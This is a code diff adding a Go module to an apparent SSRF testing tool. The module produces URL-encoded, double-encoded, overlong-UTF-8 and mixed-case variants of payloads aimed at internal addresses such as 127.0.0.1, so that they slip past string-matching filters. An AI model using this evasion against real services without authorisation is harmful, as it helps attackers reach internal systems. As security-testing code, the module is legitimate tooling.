@@ -0,0 +1,131 @@
+package payloads
+
+import (
+	"fmt"
+	"strings"
+	"unicode"
+)
+
+// payload编码器（-encoders参数），用于绕过只匹配原始字符串的过滤规则
+const (
+	EncoderURL       = "url"        // 百分号编码：http://%31%32%37%2E%30%2E%30%2E%31/
+	EncoderDoubleURL = "double-url" // 双重编码：http://%2531%2532%2537.../
+	EncoderUnicode   = "unicode"    // 超长UTF-8编码 . 和 /：http://127%c0%ae0%c0%ae0%c0%ae1/
+	EncoderCase      = "case"       // 协议和主机名大小写混合：HtTp://LoCaLhOsT/
+)
+
+// Encoders 支持的编码器
+var Encoders = []string{EncoderURL, EncoderDoubleURL, EncoderUnicode, EncoderCase}
+
+// EachVariant 依次回调原始payload和每个编码器生成的变种，fn 返回 false 时停止并返回 false
+// 与原始payload相同的变种不重复发送；包含 {{OOB}} 的payload在发包时才替换地址，不生成变种
+func EachVariant(p Payload, encoders []string, fn func(Payload) bool) bool {
+	if !fn(p) {
+		return false
+	}
+	if strings.Contains(p.Value, VarOOB) {
+		return true
+	}
+
+	seen := map[string]bool{p.Value: true}
+	for _, name := range encoders {
+		value := Encode(p.Value, name)
+		if seen[value] {
+			continue
+		}
+		seen[value] = true
+
+		variant := p
+		variant.Value = value
+		if !fn(variant) {
+			return false
+		}
+	}
+	return true
+}
+
+// Encode 使用指定编码器编码payload，不支持的编码器返回原值
+func Encode(value, encoder string) string {
+	scheme, authority, rest := splitPayloadURL(value)
+	switch encoder {
+	case EncoderURL:
+		return encodeURL(scheme, authority, rest)
+	case EncoderDoubleURL:
+		return scheme + strings.ReplaceAll(encodeURL("", authority, rest), "%", "%25")
+	case EncoderUnicode:
+		return scheme + encodeOverlong(authority, rest)
+	case EncoderCase:
+		return mixCase(scheme) + mixHostCase(authority) + rest
+	}
+	return value
+}
+
+// splitPayloadURL 将payload拆分为 协议://、地址（含认证信息和端口）、路径及之后的部分
+// 没有协议时整个payload视为地址和路径
+func splitPayloadURL(value string) (string, string, string) {
+	scheme := ""
+	if idx := strings.Index(value, "://"); idx != -1 {
+		scheme, value = value[:idx+3], value[idx+3:]
+	}
+	end := strings.IndexAny(value, "/?#")
+	if end == -1 {
+		return scheme, value, ""
+	}
+	return scheme, value[:end], value[end:]
+}
+
+// urlDelimiters 百分号编码时保留的分隔符，保证编码后的URL结构不变
+const urlDelimiters = "/:?#[]@&=%"
+
+// encodeURL 百分号编码地址和路径中除分隔符外的所有字符
+func encodeURL(scheme, authority, rest string) string {
+	var builder strings.Builder
+	builder.WriteString(scheme)
+	for _, b := range []byte(authority + rest) {
+		if strings.IndexByte(urlDelimiters, b) != -1 {
+			builder.WriteByte(b)
+			continue
+		}
+		fmt.Fprintf(&builder, "%%%02X", b)
+	}
+	return builder.String()
+}
+
+// encodeOverlong 将主机名中的 . 和路径中（首个 / 之后）的 / 替换为超长UTF-8编码
+func encodeOverlong(authority, rest string) string {
+	host := strings.ReplaceAll(authority, ".", "%c0%ae")
+	if strings.HasPrefix(rest, "/") {
+		path, query := rest, ""
+		if idx := strings.IndexAny(rest, "?#"); idx != -1 {
+			path, query = rest[:idx], rest[idx:]
+		}
+		rest = "/" + strings.ReplaceAll(path[1:], "/", "%c0%af") + query
+	}
+	return host + rest
+}
+
+// mixHostCase 混合主机名大小写，认证信息保持原样
+func mixHostCase(authority string) string {
+	if idx := strings.LastIndex(authority, "@"); idx != -1 {
+		return authority[:idx+1] + mixCase(authority[idx+1:])
+	}
+	return mixCase(authority)
+}
+
+// mixCase 字母交替大小写（首字母大写）
+func mixCase(s string) string {
+	var builder strings.Builder
+	upper := true
+	for _, r := range s {
+		if unicode.IsLetter(r) {
+			if upper {
+				r = unicode.ToUpper(r)
+			} else {
+				r = unicode.ToLower(r)
+			}
+			upper = !upper
+		}
+		builder.WriteRune(r)
+	}
+	return builder.String()
+}